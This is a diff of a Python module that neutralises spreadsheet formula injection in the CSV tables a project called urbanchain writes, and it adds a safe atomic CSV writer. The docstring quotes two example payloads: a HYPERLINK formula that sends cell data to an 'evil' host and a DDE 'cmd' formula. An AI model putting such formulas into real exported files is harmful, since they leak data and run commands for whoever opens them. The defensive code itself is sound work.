@@ -1,66 +1,134 @@
-"""Spreadsheet formula injection: text cells that a spreadsheet would run are neutralised.
+"""Spreadsheet formula neutralisation for every table urbanchain writes (CSV, Excel).
 
-A CSV or Excel cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a
-carriage return is read by Excel, LibreOffice and Google Sheets as a formula
-(CWE-1236; OWASP "CSV Injection").  A node id such as ``=HYPERLINK(...)`` or
-``=1+0`` in a user's layer would then run when a colleague opens the table.
-Following OWASP's recommendation, such text is written with a leading single
-quote (``'=1+0``), so the spreadsheet shows it as text.  Numbers are never
-changed (a negative number is a number, not a formula), and the caller's
-DataFrame is not modified: the writers escape a copy on its way to the file.
+A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-``, ``@``,
+a tab or a carriage return as a formula (CSV/formula injection:
+``=HYPERLINK("http://evil/?"&A1)``, ``=cmd|' /C calc'!A0``). Following OWASP's
+"CSV Injection" guidance, urbanchain prefixes such **text** cells with a single quote
+``'``, which spreadsheets show literally and do not evaluate.
 
-Reference: OWASP, *CSV Injection*, https://owasp.org/www-community/attacks/CSV_Injection
+* Only text is changed: numbers (``-3.5``, ``-inf``), booleans and missing values are
+  written as they are; a negative number is not a formula.
+* Index values, index names and column names are treated like cells.
+* The caller's DataFrame is never changed: :func:`neutralise_formulas` returns a copy.
+
+Reuse :func:`neutralise_formulas` (or :func:`safe_cell`) in any new writer (Excel
+included). See docs/security.md.
+
+References
+----------
+OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
 """
 
 from __future__ import annotations
 
+from collections.abc import Hashable
+from pathlib import Path
 from typing import Any
 
 import pandas as pd
 
-__all__ = ["FORMULA_PREFIXES", "safe_cells", "safe_text"]
+__all__ = ["FORMULA_PREFIXES", "neutralise_formulas", "safe_cell", "write_csv"]
 
-#: The first characters that make a spreadsheet evaluate a cell (OWASP).
+#: First characters that make a spreadsheet read a text cell as a formula.
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 
 
-def safe_text(value: Any) -> Any:
+def safe_cell(value: Any) -> Any:
     """Return ``value`` with a leading ``'`` if it is text a spreadsheet would evaluate.
 
-    >>> safe_text("=1+0"), safe_text("Hà Nội"), safe_text(-3.5)
-    ("'=1+0", 'Hà Nội', -3.5)
+    Parameters
+    ----------
+    value
+        A cell, index value or column name.
+
+    Returns
+    -------
+    Any
+        ``"'" + value`` for a string starting with one of :data:`FORMULA_PREFIXES`;
+        anything else unchanged (numbers included).
+
+    Examples
+    --------
+    >>> safe_cell("=1+1"), safe_cell("-2"), safe_cell(-2), safe_cell("Hà Nội")
+    ("'=1+1", "'-2", -2, 'Hà Nội')
     """
     if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
         return "'" + value
+    if isinstance(value, tuple):
+        return tuple(safe_cell(v) for v in value)
     return value
 
 
-def _safe_labels(index: pd.Index) -> pd.Index:
-    if isinstance(index, pd.MultiIndex):
+def _safe_labels(labels: pd.Index) -> pd.Index:
+    if isinstance(labels, pd.MultiIndex):
         return pd.MultiIndex.from_tuples(
-            [tuple(safe_text(v) for v in t) for t in index], names=index.names
+            [safe_cell(t) for t in labels], names=[safe_cell(n) for n in labels.names]
         )
-    if index.dtype == object or pd.api.types.is_string_dtype(index.dtype):
-        return pd.Index([safe_text(v) for v in index], name=safe_text(index.name))
-    return index.rename(safe_text(index.name))
+    if labels.dtype == object or pd.api.types.is_string_dtype(labels.dtype):
+        return pd.Index(
+            [safe_cell(v) for v in labels], name=safe_cell(labels.name), tupleize_cols=False
+        )
+    return labels.rename(safe_cell(labels.name))
 
 
-def safe_cells(df: pd.DataFrame) -> pd.DataFrame:
-    """Return a copy of ``df`` whose text cells, index and headers cannot run as formulas.
+def neutralise_formulas(df: pd.DataFrame | pd.Series) -> pd.DataFrame:
+    """Return a copy of ``df`` in which no text cell can run as a spreadsheet formula.
 
-    Only text columns, the index labels and the column names are touched; the
-    input is not modified.
+    Parameters
+    ----------
+    df
+        A table (a Series is turned into a one-column frame).
 
+    Returns
+    -------
+    pandas.DataFrame
+        A new frame: text cells, index values and labels that start with ``=``, ``+``,
+        ``-``, ``@``, tab or CR get a leading ``'``; numeric columns are the same
+        objects' values. ``df`` itself is not modified.
+
+    Examples
+    --------
     >>> import pandas as pd
-    >>> out = safe_cells(pd.DataFrame({"id": ["=1+0", "ok"], "x": [-1.0, 2.0]}))
-    >>> out["id"].tolist(), out["x"].tolist()
-    (["'=1+0", 'ok'], [-1.0, 2.0])
+    >>> t = pd.DataFrame({"id": ["=1+0", "ha_noi"], "change": [-1.5, 2.0]})
+    >>> neutralise_formulas(t)["id"].tolist(), t["id"].tolist()
+    (["'=1+0", 'ha_noi'], ['=1+0', 'ha_noi'])
     """
-    out = df.copy()
-    for col in out.columns:
-        s = out[col]
-        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
-            out[col] = s.map(safe_text)
-    out.index = _safe_labels(out.index)
-    out.columns = _safe_labels(out.columns)
+    frame = df.to_frame() if isinstance(df, pd.Series) else df
+    out = frame.copy()
+    for position in range(frame.shape[1]):
+        values = frame.iloc[:, position]
+        if values.dtype == object or pd.api.types.is_string_dtype(values.dtype):
+            out.isetitem(position, values.map(safe_cell).to_numpy(dtype=object))
+    out.columns = _safe_labels(frame.columns)
+    out.index = _safe_labels(frame.index)
+    out.attrs = dict(frame.attrs)
     return out
+
+
+def write_csv(df: pd.DataFrame | pd.Series, path: Path, *, index: bool | Hashable = True) -> Path:
+    """Write ``df`` as UTF-8 CSV (RFC 4180, CRLF) with formulas neutralised, atomically.
+
+    Parameters
+    ----------
+    df
+        The table.
+    path
+        Target file; written through a temporary file in the same folder and renamed
+        into place, so a failed write never leaves a partial table.
+    index
+        Write the index (as :meth:`pandas.DataFrame.to_csv`).
+
+    Returns
+    -------
+    pathlib.Path
+        ``path``.
+    """
+    from urbanchain._private._atomic import atomic_path
+
+    safe = neutralise_formulas(df)
+    with atomic_path(Path(path)) as tmp:
+        # RFC 4180 line ends: the csv module quotes a field holding any character of
+        # the line terminator, so with "\r\n" a cell with a bare CR is quoted too
+        # (with pandas' default "\n" it is not, and the row silently splits).
+        safe.to_csv(tmp, index=bool(index), lineterminator="\r\n", encoding="utf-8")
+    return Path(path)
